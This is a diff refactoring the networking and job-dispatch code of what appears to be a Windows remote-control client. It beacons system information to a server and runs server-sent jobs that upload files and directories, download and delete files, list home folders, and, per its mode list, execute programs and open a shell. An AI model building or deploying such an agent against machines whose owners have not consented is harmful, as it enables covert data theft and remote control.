@@ -25,480 +25,721 @@
 #include <iostream>
 #include "utilities.h"
 #include "base64.h"
-#include <sstream>
 #include <filesystem>
 #include <fstream>
+#include <thread>
+#include <chrono>
+#include <algorithm>
+#include <mutex>
+#include <cstdint>
+#include <unordered_map>
 #include "systemInformation.h"
 #include "stringUtil.h"
 
 
-void httpService_t(SharedResourceManager &sharedResources) {
-	const std::wstring sysInfo = sharedResources.getSysInfoInJson();
-	const std::wstring serverUrl = sharedResources.getServerUrl();
+/* Persistent connection to the server, reused across heartbeats and job responses */
+static constexpr ConnectionBehaviour connectionBehaviour{ ConnectionBehaviour::KeepAlive };
 
-	const std::string dataBase64 = base64_encode((unsigned char*)StringUtils::ws2s(sysInfo).c_str(), sysInfo.length());
-	std::wstring request{ L"POST / HTTP/1.1\r\n"};
-	request += L"Host: " + serverUrl + L"\r\n";
-	request += L"Accept-Encoding: identity\r\n";
-	request += L"User-Agent: clienthttp\r\n";
-	request += L"Content-Type: application/octet-stream\r\n";
-	request += L"Content-Length: " + std::to_wstring(dataBase64.length()) + L"\r\n";
-	request += L"Connection: close\r\n";
-	request += L"\r\n" + StringUtils::s2ws(dataBase64);
+static const char* connectionHeader(void) {
+	return (connectionBehaviour == ConnectionBehaviour::KeepAlive) ? "Connection: keep-alive\r\n" : "Connection: close\r\n";
+}
 
-	struct timeval receiveResponse_timeout;
-	receiveResponse_timeout.tv_sec = 0;
-	receiveResponse_timeout.tv_usec = 500 * 1000;		// 500 miliseconds
+/* Long-poll: heartbeats ask the server (RFC 7240 "Prefer: wait") to hold the request until it has a job.
+   A server which doesn't support it replies at once, exactly as it does to a plain heartbeat */
+static constexpr bool longPollEnabled{ true };
+static constexpr long longPollWait_sec{ 25 };
+static constexpr long longPollGrace_sec{ 5 };		/* Network slack on top of longPollWait_sec */
 
-	mysocket::WinSocket http;
-	http.socket_init();
+/* Response batching: queued job results are packed into one request body, one base64 record per line (base64 never
+   contains '\n'), and piggybacked on the heartbeat when there is one to send. "X-Batch-Count" tells the server how many
+   records to split; each record is exactly the body a non-batching client would have sent. Needs a server which splits */
+static constexpr bool batchResponsesEnabled{ false };
+static constexpr size_t batchMaxBytes{ 4 * 1024 * 1024 };		/* Job results per request, a larger single result still goes alone */
 
-	const std::wstring host = serverUrl.substr(0, serverUrl.find(L':'));
-	const std::wstring port = serverUrl.substr(serverUrl.find(L':') + 1);
+/* Server unreachable: wait before the next attempt, doubling up to the maximum and back to the minimum on success */
+static constexpr long retryBackoffMin_ms{ 500 };
+static constexpr long retryBackoffMax_ms{ 30 * 1000 };
 
-	while (true) {
-		std::wstring response;
-		std::wstring receivedData;
-		http.connect(host, port);
-		if (sharedResources.isResponseAvailable()) {	// If there is some response which the client wants to send to the server
-			response = sharedResources.popResponse();
-			http.transmit(response, response.size());
-		}
-		else {
-			http.transmit(request, request.size());		// else, send a generic alive-signal
+/* UTF-8 request header; the body is transmitted from its own buffer right after it */
+static std::string buildRequestHeader(const std::string &serverUrl, const size_t &contentLength, const long &waitForJob_sec = 0, const size_t &records = 1) {
+	std::string header{ "POST / HTTP/1.1\r\n" };
+	header += "Host: " + serverUrl + "\r\n";
+	header += "Accept-Encoding: identity\r\n";
+	header += "User-Agent: clienthttp\r\n";
+	header += "Content-Type: application/octet-stream\r\n";
+	header += "Content-Length: " + std::to_string(contentLength) + "\r\n";
+	if (waitForJob_sec > 0) {
+		header += "Prefer: wait=" + std::to_string(waitForJob_sec) + "\r\n";
+	}
+	if (batchResponsesEnabled) {
+		header += "X-Batch-Count: " + std::to_string(records) + "\r\n";
+	}
+	header += connectionHeader();
+	header += "\r\n";
+	return header;
+}
+
+static bool sendRequest(mysocket::Transport &http, const std::string &host, const std::string &port, const std::string &header, const std::string &body) {
+	http.connect(host, port);							// Reconnects only if there is no live connection
+	if (http.transmit({ { header.data(), header.length() }, { body.data(), body.length() } })) {
+		return true;
+	}
+	http.connect(host, port);							// Server dropped the reused connection, retry once on a fresh one
+	return http.transmit({ { header.data(), header.length() }, { body.data(), body.length() } });
+}
+
+/* Remaining time until deadline as a socket wait timeout, zero once it has passed */
+static struct timeval timeUntil(const std::chrono::steady_clock::time_point &deadline) {
+	const auto remaining_us = std::chrono::duration_cast<std::chrono::microseconds>(deadline - std::chrono::steady_clock::now()).count();
+	struct timeval timeout;
+	timeout.tv_sec = (remaining_us > 0) ? static_cast<long>(remaining_us / 1000000) : 0;
+	timeout.tv_usec = (remaining_us > 0) ? static_cast<long>(remaining_us % 1000000) : 0;
+	return timeout;
+}
+
+/* Queue a job result for the server: sysInfo + { replyType : dataToSend } */
+static void pushJobReply(SharedResourceManager &sharedResources, const std::wstring &replyType, const std::wstring &dataToSend) {
+	// Job output is wide (paths, module output), converted once here, the rest of the way is UTF-8
+	sharedResources.pushResponse(sharedResources.getReplyEnvelope()->encode(StringUtils::ws2s(replyType), StringUtils::ws2s(dataToSend)));
+}
+
+/* A reply carries one job object or an array of them, each is handed to the executor on its own */
+static void dispatchJob(const std::string &jobInBase64, SharedResourceManager &sharedResources, JobExecutor &jobExecutor) {
+	std::vector<Job> jobs;
+	if (!Job::parseAll(base64_decode(jobInBase64), jobs)) {
+		return;
+	}
+	for (Job &job : jobs) {
+		JobMode jobMode;
+		if (!findJobMode(job.mode(), jobMode)) {		// i.e. "standard", nothing to do
+			continue;
 		}
-		http.receiveResponse(receivedData, receiveResponse_timeout);
-		http.socket_close();							// Disconnect
-		if (receivedData.empty()) { 
+		const std::wstring mode{ job.mode() };
+		if (sharedResources.isResponseBacklogged()) {	// Results aren't getting out (server unreachable?), don't produce more
+			const size_t pending_MB = sharedResources.pendingResponseBytes() / (1024 * 1024);
+			pushJobReply(sharedResources, L"log", mode + L" rejected: " + std::to_wstring(pending_MB) + L" MB of job results are waiting to be sent, retry later");
 			continue;
-		}					
-		const size_t found = receivedData.find(L"\r\n\r\n");
-		std::wstring replyFromServerInJson;
-		if (found != std::string::npos) {
-			std::string b64Data = extractBase64Data(receivedData.substr(found));
-			replyFromServerInJson = StringUtils::s2ws(base64_decode(b64Data));
 		}
-		if (isJobAvailable(replyFromServerInJson)) {		// Found a job request from server ?
-			sharedResources.pushJob(replyFromServerInJson);
-			std::thread jobThread(startJob_t, std::ref(sharedResources));	// start a job thread
-			jobThread.detach();
+		const bool queued = jobExecutor.submit(jobMode.lane, [&sharedResources, handler = jobMode.handler, job = std::move(job)] {
+			startJob_t(sharedResources, job, handler);
+		});
+		if (!queued) {									// Lane is saturated, let the server retry later
+			pushJobReply(sharedResources, L"log", mode + L" rejected: client is busy, retry later");
 		}
 	}
 }
 
-bool isJobAvailable(const std::wstring& replyFromServer) {
-	std::wstring mode = JsonUtil::extractValue(replyFromServer, L"mode");
-	if ((mode.empty() || mode == L"standard") ||
-		(mode != L"uploadFile" &&
-			mode != L"UploadDir" &&
-			mode != L"downloadFile" &&
-			mode != L"downloadDir" &&
-			mode != L"execute" &&
-			mode != L"listDir" &&
-			mode != L"copy" &&
-			mode != L"grabFile" &&
-			mode != L"deleteFile" &&
-			mode != L"compressAndDownload" &&
-			mode != L"shell")) {
-		return false;
+static void dispatchReply(const HttpResponse &reply, SharedResourceManager &sharedResources, JobExecutor &jobExecutor) {
+	if (reply.statusCode / 100 != 2 || reply.body.empty()) {
+		return;
 	}
-	return true;
+	dispatchJob(reply.body, sharedResources, jobExecutor);
 }
 
-void startJob_t(SharedResourceManager &sharedResources) {
+/* Append queued job results to body as batch records until batchMaxBytes, returns how many were appended.
+   At least one is taken if any is queued, so an oversized result still goes out */
+static size_t appendResponseBatch(SharedResourceManager &sharedResources, std::string &body) {
+	const size_t initialLength = body.length();
+	size_t appended = 0;
+	std::string response;
+	for (size_t next = sharedResources.peekResponseLength(); next != 0; next = sharedResources.peekResponseLength()) {
+		if (appended > 0 && body.length() - initialLength + 1 + next > batchMaxBytes) {
+			break;
+		}
+		sharedResources.popResponse(response);
+		if (!body.empty()) {
+			body += '\n';
+		}
+		body += response;
+		++appended;
+	}
+	return appended;
+}
 
-	const std::wstring serverUrl = sharedResources.getServerUrl();
-	std::wstring job{ sharedResources.popJob() };
-	std::wstring request{ L"POST / HTTP/1.1\r\n" };
-	request += L"Host: " + serverUrl + L"\r\n";
-	request += L"Accept-Encoding: identity\r\n";
-	request += L"User-Agent: clienthttp\r\n";
-	request += L"Content-Type: application/octet-stream\r\n";
-	std::wstring dataToSend;
-	std::wstring mode{ JsonUtil::extractValue(job, L"mode") };
-	std::error_code ec;
-	std::wstring replyType{ L"log" };
+/* Job results taken off the queue but not delivered yet, they go out before anything queued after them */
+struct UnsentResults {
+	std::string body;
+	size_t records = 0;
+};
 
-	if (mode == L"downloadFile") {
-		std::wstring filetransferDllPath{ getExecutableDir() + L"\\filetransfer.dll" };
-		if (fs::exists(filetransferDllPath, ec)) {       // if filetransfer.dll exist
-			std::wstring url{ JsonUtil::extractValue(job, L"url") };
-			std::wstring port{ JsonUtil::extractValue(job, L"port") };
-			std::wstring filePath{ JsonUtil::extractValue(job, L"filePath") };
-			std::wstring destPath{ JsonUtil::extractValue(job, L"destPath") };
-			filePath = ReplaceTildeWithPathWindows(filePath);
-			destPath = ReplaceTildeWithPathWindows(destPath);
-			std::wstring fileName;
-
-			if (fs::is_directory(destPath, ec)) {
-				const std::wstring tmpFileName{ L"fileXXXXxxxxx" };
-				const std::wstring tmpFilePath = destPath + L"/" + tmpFileName;
-				std::ofstream tmpFile(tmpFilePath);
-
-				if (tmpFile.is_open()) {              // Check for write permissions on destination directory before downloading files to it
-					tmpFile.close();
-					fs::remove(tmpFilePath, ec);    // Remove the temporary created file            
-					fileName = filePath.substr(filePath.find_last_of('/') + 1);
-					url += L":" + port + L"/" + filePath;
-					std::wstring errorMsg;
-					HINSTANCE handle_filetransferLib = LoadLibrary(L"filetransfer.dll");
-					if (!handle_filetransferLib) {
-						dataToSend = L"Failed to load filetransfer.dll";
-					}
-					else if (DownloadFileFromURLViaDll(handle_filetransferLib, url, destPath, errorMsg)) {
-						dataToSend = fileName + L" downloaded successfully to " + destPath;
-					}
-					else {
-						dataToSend = fileName + L" didn't downloaded";
-						dataToSend += L" | errorMsg: " + errorMsg;
-					}
-					FreeLibrary(handle_filetransferLib);
-				}
-				else {                       // Destination directory doesn't have write permissions
-					dataToSend = destPath + L" doesn't have write permissions";
-				}
+/* Results which didn't get through go back in front of any which failed after them */
+static void keepUnsent(UnsentResults &unsent, UnsentResults &&results) {
+	if (results.records == 0) {
+		return;
+	}
+	if (unsent.records > 0) {
+		results.body += '\n';
+		results.body += unsent.body;
+		results.records += unsent.records;
+	}
+	unsent = std::move(results);
+}
+
+/* Job results count as delivered once the server has answered the request which carried them */
+static bool isDelivered(const bool &received, const HttpResponse &reply) {
+	return received && reply.statusCode / 100 != 5;
+}
+
+/* Send every queued job result, each reply may carry a new job. False if the server couldn't be reached, what was
+   being sent is then kept in unsent for the next attempt */
+static bool flushResponses(mysocket::Transport &http, const std::string &host, const std::string &port, const std::string &serverUrl,
+	SharedResourceManager &sharedResources, JobExecutor &jobExecutor, UnsentResults &unsent, const struct timeval &timeout) {
+	sharedResources.getResponseEvent().reset();		// Everything queued so far is sent below, later pushes signal again
+	while (true) {
+		if (unsent.records == 0) {
+			unsent.body.clear();
+			unsent.records = batchResponsesEnabled ? appendResponseBatch(sharedResources, unsent.body) : (sharedResources.popResponse(unsent.body) ? 1 : 0);
+			if (unsent.records == 0) {
+				return true;
 			}
-			else {
-				dataToSend = destPath + L" doesn't exists";
+		}
+		const std::string header = buildRequestHeader(serverUrl, unsent.body.length(), 0, unsent.records);
+		HttpResponse reply;
+		const bool received = sendRequest(http, host, port, header, unsent.body) && http.receiveResponse(reply, timeout);
+		if (!isDelivered(received, reply)) {
+			http.socket_close();						// Whatever state the connection is in, start the retry on a new one
+			return false;
+		}
+		unsent.records = 0;
+		dispatchReply(reply, sharedResources, jobExecutor);
+		if (connectionBehaviour != ConnectionBehaviour::KeepAlive) {
+			http.socket_close();						// Disconnect
+		}
+	}
+}
+
+void httpService_t(SharedResourceManager &sharedResources, JobExecutor &jobExecutor) {
+	const std::string sysInfo = sharedResources.getSysInfoInJson();
+	const std::string serverUrl = sharedResources.getServerUrl();
+
+	const std::string heartbeatBody = base64_encode((unsigned char*)sysInfo.c_str(), static_cast<unsigned int>(sysInfo.length()));
+	const std::string heartbeatHeader = buildRequestHeader(serverUrl, heartbeatBody.length(), longPollEnabled ? longPollWait_sec : 0);
+
+	struct timeval receiveResponse_timeout;
+	receiveResponse_timeout.tv_sec = 0;
+	receiveResponse_timeout.tv_usec = 500 * 1000;		// 500 miliseconds
+
+	mysocket::TcpSocket http;
+	http.socket_init();
+	http.setConnectionBehaviour(connectionBehaviour);
+	mysocket::TcpSocket resultChannel;					// Carries job results while the server holds a long-poll on http
+	resultChannel.socket_init();
+	resultChannel.setConnectionBehaviour(connectionBehaviour);
+
+	const std::string host = serverUrl.substr(0, serverUrl.find(':'));
+	const std::string port = serverUrl.substr(serverUrl.find(':') + 1);
+
+	std::string pollBody;								// Heartbeat plus piggybacked job results, when batching
+	UnsentResults unsent;
+	long retryBackoff_ms = retryBackoffMin_ms;
+	while (true) {
+		bool longPoll = longPollEnabled;
+		bool sent;
+		UnsentResults piggybacked;						// Results riding on this heartbeat, kept until the server answers it
+		if (batchResponsesEnabled) {
+			// The heartbeat is the first record, queued results follow it in the same request
+			sharedResources.getResponseEvent().reset();
+			if (unsent.records == 0) {
+				unsent.body.clear();
+				unsent.records = appendResponseBatch(sharedResources, unsent.body);
+			}
+			std::swap(piggybacked, unsent);
+			pollBody = heartbeatBody;
+			if (piggybacked.records > 0) {
+				pollBody += '\n';
+				pollBody += piggybacked.body;
 			}
+			longPoll = longPollEnabled && sharedResources.peekResponseLength() == 0;		// Don't park the request while results are left behind
+			sent = sendRequest(http, host, port, buildRequestHeader(serverUrl, pollBody.length(), longPoll ? longPollWait_sec : 0, piggybacked.records + 1), pollBody);
 		}
 		else {
-			replyType = L"resourceRequired";
-			dataToSend = L"executeCommands.dll";
+			sent = flushResponses(http, host, port, serverUrl, sharedResources, jobExecutor, unsent, receiveResponse_timeout) &&
+				sendRequest(http, host, port, heartbeatHeader, heartbeatBody);		// send a generic alive-signal
+		}
+		if (!sent) {
+			keepUnsent(unsent, std::move(piggybacked));
+			std::this_thread::sleep_for(std::chrono::milliseconds(retryBackoff_ms));	// Unsent results are kept for the next attempt
+			retryBackoff_ms = std::min(retryBackoff_ms * 2, retryBackoffMax_ms);
+			continue;
+		}
+		retryBackoff_ms = retryBackoffMin_ms;
+		if (longPoll) {
+			// Sleep until the server answers or a job result is queued, results go out on resultChannel immediately
+			const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(longPollWait_sec + longPollGrace_sec);
+			while (!http.waitForResponse(timeUntil(deadline), sharedResources.getResponseEvent())) {
+				if (std::chrono::steady_clock::now() >= deadline) {
+					http.socket_close();				// Server never answered, start over on a new connection
+					break;
+				}
+				flushResponses(resultChannel, host, port, serverUrl, sharedResources, jobExecutor, unsent, receiveResponse_timeout);
+			}
+		}
+		HttpResponse reply;
+		const bool received = http.receiveResponse(reply, receiveResponse_timeout);
+		if (!isDelivered(received, reply)) {
+			keepUnsent(unsent, std::move(piggybacked));
+		}
+		if (received) {
+			dispatchReply(reply, sharedResources, jobExecutor);
+		}
+		if (connectionBehaviour != ConnectionBehaviour::KeepAlive) {
+			http.socket_close();						// Disconnect
 		}
 	}
-	else if (mode == L"uploadFile") {
-		std::wstring filetransferDllPath{ getExecutableDir() + L"\\filetransfer.dll" };
-		if (fs::exists(filetransferDllPath, ec)) {
-			std::wstring url{ JsonUtil::extractValue(job, L"url") };
-			std::wstring port{ JsonUtil::extractValue(job, L"port") };
-			std::wstring filePath{ JsonUtil::extractValue(job, L"filePath") };
+}
+
+/* ================================ JOB HANDLERS ================================ */
+
+static void downloadFileJob(const Job &job, std::wstring &replyType, std::wstring &dataToSend) {
+	std::error_code ec;
+	const auto filetransferLib = ModuleRegistry::acquire(L"filetransfer.dll");
+	if (filetransferLib != nullptr) {       // if filetransfer.dll exist
+		std::wstring url{ job.value("url") };
+		std::wstring port{ job.value("port") };
+		std::wstring filePath{ job.value("filePath") };
+		std::wstring destPath{ job.value("destPath") };
+		filePath = ReplaceTildeWithPathWindows(filePath);
+		destPath = ReplaceTildeWithPathWindows(destPath);
+		std::wstring fileName;
+
+		if (fs::is_directory(destPath, ec)) {
+			const std::wstring tmpFileName{ L"fileXXXXxxxxx" };
+			const std::wstring tmpFilePath = destPath + L"/" + tmpFileName;
+			std::ofstream tmpFile{ fs::path(tmpFilePath) };
 
-			filePath = ReplaceTildeWithPathWindows(filePath);
-			const std::wstring fileName{ filePath.substr(filePath.find_last_of('/') + 1) };
-			if (fs::is_regular_file(filePath, ec)) {
-				url += L":" + port;
+			if (tmpFile.is_open()) {              // Check for write permissions on destination directory before downloading files to it
+				tmpFile.close();
+				fs::remove(tmpFilePath, ec);    // Remove the temporary created file            
+				fileName = filePath.substr(filePath.find_last_of('/') + 1);
+				url += L":" + port + L"/" + filePath;
 				std::wstring errorMsg;
-				HINSTANCE handle_filetransferLib = LoadLibrary(L"filetransfer.dll");
-				if (!handle_filetransferLib) {
-					dataToSend = L"Failed to load filetransfer.dll";
-				}
-				else if (UploadFileToURLViaDll(handle_filetransferLib, url, filePath, errorMsg)) {
-					dataToSend = filePath + L" uploaded successfully";
+				if (DownloadFileFromURLViaDll(*filetransferLib, url, destPath, errorMsg)) {
+					dataToSend = fileName + L" downloaded successfully to " + destPath;
 				}
 				else {
-					dataToSend = filePath + L" DID NOT get uploaded!";
+					dataToSend = fileName + L" didn't downloaded";
 					dataToSend += L" | errorMsg: " + errorMsg;
 				}
-				FreeLibrary(handle_filetransferLib);
 			}
-			else {
-				dataToSend = filePath + L" doesn't exists";
+			else {                       // Destination directory doesn't have write permissions
+				dataToSend = destPath + L" doesn't have write permissions";
 			}
 		}
 		else {
-			replyType = L"resourceRequired";
-			dataToSend = L"filetransfer.dll";
+			dataToSend = destPath + L" doesn't exists";
 		}
 	}
-	else if (mode == L"UploadDir") {
-		std::wstring filetransferDllPath{ getExecutableDir() + L"\\filetransfer.dll" };
-		if (fs::exists(filetransferDllPath, ec)) {       // if filetransfer.dll exist
-			std::wstring url{ JsonUtil::extractValue(job, L"url") };
-			std::wstring port{ JsonUtil::extractValue(job, L"port") };
-			std::wstring dirPath{ JsonUtil::extractValue(job, L"dirPath") };
-			std::wstring fileExtensions{ JsonUtil::extractValue(job, L"fileExtensions") };
-			dirPath = ReplaceTildeWithPathWindows(dirPath);
+	else {
+		replyType = L"resourceRequired";
+		dataToSend = L"executeCommands.dll";
+	}
+}
 
-			if (!fs::is_directory(dirPath, ec)) {       // check whether it is a directory
-				dataToSend = dirPath + L" is not a directory!";
-			}
-			else if (fs::is_empty(dirPath, ec)) {      // check whether the directory is empty
-				dataToSend = dirPath + L"is empty";
+static void uploadFileJob(const Job &job, std::wstring &replyType, std::wstring &dataToSend) {
+	std::error_code ec;
+	const auto filetransferLib = ModuleRegistry::acquire(L"filetransfer.dll");
+	if (filetransferLib != nullptr) {
+		std::wstring url{ job.value("url") };
+		std::wstring port{ job.value("port") };
+		std::wstring filePath{ job.value("filePath") };
+
+		filePath = ReplaceTildeWithPathWindows(filePath);
+		const std::wstring fileName{ filePath.substr(filePath.find_last_of('/') + 1) };
+		if (fs::is_regular_file(filePath, ec)) {
+			url += L":" + port;
+			std::wstring errorMsg;
+			if (UploadFileToURLViaDll(*filetransferLib, url, filePath, errorMsg)) {
+				dataToSend = filePath + L" uploaded successfully";
 			}
-			else {                                      // for valid directory path
-				url += L":" + port;
-				std::wstring errorMsg;
-				HINSTANCE handle_filetransferLib = LoadLibrary(L"filetransfer.dll");
-				if (!handle_filetransferLib) {
-					dataToSend = L"Failed to load filetransfer.dll";
-				}
-				else if (UploadDirectoryToURLViaDll(handle_filetransferLib, url, dirPath, errorMsg, fileExtensions)) {
-					dataToSend = dirPath + L"/ directory uploaded successfully";
-				}
-				else {
-					dataToSend = dirPath + L"/ directory DID NOT get uploaded!";
-					dataToSend += L" | errorMsg: " + errorMsg;
-				}
-				FreeLibrary(handle_filetransferLib);
+			else {
+				dataToSend = filePath + L" DID NOT get uploaded!";
+				dataToSend += L" | errorMsg: " + errorMsg;
 			}
 		}
-		else {                          // if filetransfer.dll DOES NOT exist, inform CRC about it
-			replyType = L"resourceRequired";
-			dataToSend = L"filetransfer.dll";
+		else {
+			dataToSend = filePath + L" doesn't exists";
 		}
 	}
-	else if (mode == L"deleteFile") {
-		std::wstring filePath{ JsonUtil::extractValue(job, L"filePath") };
-		if (filePath.empty()) {
-			dataToSend = L"Couldn't delete: filePath is empty!";
+	else {
+		replyType = L"resourceRequired";
+		dataToSend = L"filetransfer.dll";
+	}
+}
+
+static void uploadDirJob(const Job &job, std::wstring &replyType, std::wstring &dataToSend) {
+	std::error_code ec;
+	const auto filetransferLib = ModuleRegistry::acquire(L"filetransfer.dll");
+	if (filetransferLib != nullptr) {       // if filetransfer.dll exist
+		std::wstring url{ job.value("url") };
+		std::wstring port{ job.value("port") };
+		std::wstring dirPath{ job.value("dirPath") };
+		std::wstring fileExtensions{ job.value("fileExtensions") };
+		dirPath = ReplaceTildeWithPathWindows(dirPath);
+
+		if (!fs::is_directory(dirPath, ec)) {       // check whether it is a directory
+			dataToSend = dirPath + L" is not a directory!";
 		}
-		if (fs::is_directory(filePath, ec)) {
-			dataToSend = L"Couldn't delete: " + filePath + L" is a directory!";
+		else if (fs::is_empty(dirPath, ec)) {      // check whether the directory is empty
+			dataToSend = dirPath + L"is empty";
 		}
-		else {
-			filePath = ReplaceTildeWithPathWindows(filePath);
-			if (fs::exists(filePath, ec)) {
-				if (fs::remove(filePath, ec)) {
-					dataToSend = filePath + L" deleted successfully";
-				}
-				else {
-					dataToSend = L"Unable to deleted " + filePath + L" std::error_code = " + std::to_wstring(ec.value());;
-				}
+		else {                                      // for valid directory path
+			url += L":" + port;
+			std::wstring errorMsg;
+			if (UploadDirectoryToURLViaDll(*filetransferLib, url, dirPath, errorMsg, fileExtensions)) {
+				dataToSend = dirPath + L"/ directory uploaded successfully";
 			}
 			else {
-				dataToSend = filePath + L" does not exist!";
+				dataToSend = dirPath + L"/ directory DID NOT get uploaded!";
+				dataToSend += L" | errorMsg: " + errorMsg;
 			}
 		}
 	}
-	else if (mode == L"listDir") {
-		std::wstring dirToList = JsonUtil::extractValue(job, L"dirToList");
-		std::wstring dirInfo{ L"{\"files\":[" };		
-		if (dirToList.empty()) {
-			// Default is home directory, also try to find the home directory of user with another method if not found here
-			dirToList = L"C:/users/" + SysInformation::getUserName();
+	else {                          // if filetransfer.dll DOES NOT exist, inform CRC about it
+		replyType = L"resourceRequired";
+		dataToSend = L"filetransfer.dll";
+	}
+}
+
+static void deleteFileJob(const Job &job, std::wstring &replyType, std::wstring &dataToSend) {
+	std::error_code ec;
+	std::wstring filePath{ job.value("filePath") };
+	if (filePath.empty()) {
+		dataToSend = L"Couldn't delete: filePath is empty!";
+	}
+	if (fs::is_directory(filePath, ec)) {
+		dataToSend = L"Couldn't delete: " + filePath + L" is a directory!";
+	}
+	else {
+		filePath = ReplaceTildeWithPathWindows(filePath);
+		if (fs::exists(filePath, ec)) {
+			if (fs::remove(filePath, ec)) {
+				dataToSend = filePath + L" deleted successfully";
+			}
+			else {
+				dataToSend = L"Unable to deleted " + filePath + L" std::error_code = " + std::to_wstring(ec.value());;
+			}
 		}
-		dirToList = ReplaceTildeWithPathWindows(dirToList);
-		if (!(StringUtils::endsWith(dirToList, L"\\") || StringUtils::endsWith(dirToList, L"/"))) {
-			dirToList += L"/";
+		else {
+			dataToSend = filePath + L" does not exist!";
 		}
-		if (!fs::is_directory(dirToList, ec)) {         // Is this a Directory ?
-			dataToSend = dirToList + L" is not a directory";
+	}
+}
+
+static void listDirJob(const Job &job, std::wstring &replyType, std::wstring &dataToSend) {
+	std::error_code ec;
+	std::wstring dirToList = job.value("dirToList");
+	std::wstring dirInfo{ L"{\"files\":[" };		
+	if (dirToList.empty()) {
+		// Default is home directory, also try to find the home directory of user with another method if not found here
+		dirToList = L"C:/users/" + SysInformation::getUserName();
+	}
+	dirToList = ReplaceTildeWithPathWindows(dirToList);
+	if (!(StringUtils::endsWith(dirToList, L"\\") || StringUtils::endsWith(dirToList, L"/"))) {
+		dirToList += L"/";
+	}
+	if (!fs::is_directory(dirToList, ec)) {         // Is this a Directory ?
+		dataToSend = dirToList + L" is not a directory";
+	}
+	else if (fs::is_empty(dirToList, ec)) {        // Is Directory Empty ?
+		dataToSend = dirToList + L" is empty!";
+	}
+	else {                                        // This is NOT an EMPTY Directory, continue here
+		const auto filemanagerLib = ModuleRegistry::acquire(L"filemanager.dll");
+		if (filemanagerLib != nullptr) {
+			std::wstring errorMsg;
+			dataToSend = filemanagerViaDll(*filemanagerLib, dirToList);
+			replyType = L"dirList";
 		}
-		else if (fs::is_empty(dirToList, ec)) {        // Is Directory Empty ?
-			dataToSend = dirToList + L" is empty!";
+		else {
+			replyType = L"resourceRequired";
+			dataToSend = L"filemanager.dll";
 		}
-		else {                                        // This is NOT an EMPTY Directory, continue here
-			std::wstring filemanagerDllPath{ getExecutableDir() + L"\\filemanager.dll" };
-			if (fs::exists(filemanagerDllPath, ec)) {
-				std::wstring errorMsg;
-				HMODULE hFilemanagerLib = LoadLibrary(L"filemanager.dll");
-				if (hFilemanagerLib == NULL) {
-					dataToSend = L"Failed to load filemanager.dll";
-				}
-				else {
-					dataToSend = filemanagerViaDll(hFilemanagerLib, dirToList);
-				}
-				FreeLibrary(hFilemanagerLib);
-				replyType = L"dirList";
+	}	
+}
+
+static void copyJob(const Job &job, std::wstring &replyType, std::wstring &dataToSend) {
+	std::error_code ec;
+	const std::wstring sourcePath{ job.value("sourcePath") };
+	const std::wstring destPath{ job.value("destPath") };
+
+	if (sourcePath.empty() || destPath.empty()) {
+		dataToSend = L"Either source or destination is empty!";
+	}
+	else if (!fs::is_directory(destPath, ec)) {           // Verify that the destination is a directory
+		dataToSend = destPath + L" is not a directory!";
+	}
+	else {                                                  // Destination is a directory   
+		if (fs::is_directory(sourcePath, ec)) {           // Copy directory
+			const std::wstring Dirname{ ExtractLastDirectoryName(sourcePath) };   // Extract directory name from sourcePath
+			if (fs::exists(destPath + L"/" + Dirname, ec)) {    // if directory to be copied already exist at destination
+				dataToSend = sourcePath + L" already exist in the " + destPath;
 			}
 			else {
-				replyType = L"resourceRequired";
-				dataToSend = L"filemanager.dll";
+				const auto copyOptions = fs::copy_options::skip_symlinks |
+					fs::copy_options::recursive;
+				fs::copy(sourcePath, destPath + L"/" + Dirname, copyOptions, ec);
+				if (ec) { dataToSend = job.mode() + L" " + StringUtils::s2ws(ec.message()); }
+				else { dataToSend = sourcePath + L" is copied to " + destPath + L" successfully"; }
 			}
-		}	
-	}
-	else if (mode == L"copy") {
-		const std::wstring sourcePath{ JsonUtil::extractValue(job, L"sourcePath") };
-		const std::wstring destPath{ JsonUtil::extractValue(job, L"destPath") };
-
-		if (sourcePath.empty() || destPath.empty()) {
-			dataToSend = L"Either source or destination is empty!";
 		}
-		else if (!fs::is_directory(destPath, ec)) {           // Verify that the destination is a directory
-			dataToSend = destPath + L" is not a directory!";
-		}
-		else {                                                  // Destination is a directory   
-			if (fs::is_directory(sourcePath, ec)) {           // Copy directory
-				const std::wstring Dirname{ ExtractLastDirectoryName(sourcePath) };   // Extract directory name from sourcePath
-				if (fs::exists(destPath + L"/" + Dirname, ec)) {    // if directory to be copied already exist at destination
-					dataToSend = sourcePath + L" already exist in the " + destPath;
-				}
-				else {
-					const auto copyOptions = fs::copy_options::skip_symlinks |
-						fs::copy_options::recursive;
-					fs::copy(sourcePath, destPath + L"/" + Dirname, copyOptions, ec);
-					if (ec) { dataToSend = mode + L" " + StringUtils::s2ws(ec.message()); }
-					else { dataToSend = sourcePath + L" is copied to " + destPath + L" successfully"; }
-				}
+		else {                                          // Copy file
+			const std::wstring filename{ sourcePath.substr(sourcePath.find_last_of('/') + 1) };   // Extract file name from the sourcePath
+			if (fs::exists(destPath + L"/" + filename, ec)) {  // if file to be copied already exist at destination
+				dataToSend = destPath + L"/" + filename + L" already exist in the " + destPath;
 			}
-			else {                                          // Copy file
-				const std::wstring filename{ sourcePath.substr(sourcePath.find_last_of('/') + 1) };   // Extract file name from the sourcePath
-				if (fs::exists(destPath + L"/" + filename, ec)) {  // if file to be copied already exist at destination
-					dataToSend = destPath + L"/" + filename + L" already exist in the " + destPath;
-				}
-				else {
-					const auto copyOptions = fs::copy_options::skip_symlinks | fs::copy_options::skip_existing;
-					fs::copy_file(sourcePath, destPath + L"/" + filename, copyOptions, ec);
-					if (ec) { dataToSend = mode + L" " + StringUtils::s2ws(ec.message()); }
-					else { dataToSend = sourcePath + L" is copied to " + destPath + L" successfully"; }
-				}
+			else {
+				const auto copyOptions = fs::copy_options::skip_symlinks | fs::copy_options::skip_existing;
+				fs::copy_file(sourcePath, destPath + L"/" + filename, copyOptions, ec);
+				if (ec) { dataToSend = job.mode() + L" " + StringUtils::s2ws(ec.message()); }
+				else { dataToSend = sourcePath + L" is copied to " + destPath + L" successfully"; }
 			}
 		}
 	}
-	else if (mode == L"execute") {
-		std::wstring executeCommandsDllPath{ getExecutableDir() + L"\\executeCommands.dll" };
-		if (fs::exists(executeCommandsDllPath, ec)) {
-			std::wstring exePath{ JsonUtil::extractValue(job, L"exePath") };
-			std::wstring arguments{ JsonUtil::extractValue(job, L"exeArguments") };
+}
 
-			exePath = ReplaceTildeWithPathWindows(exePath);
-			arguments = ReplaceTildeWithPathWindows(arguments);
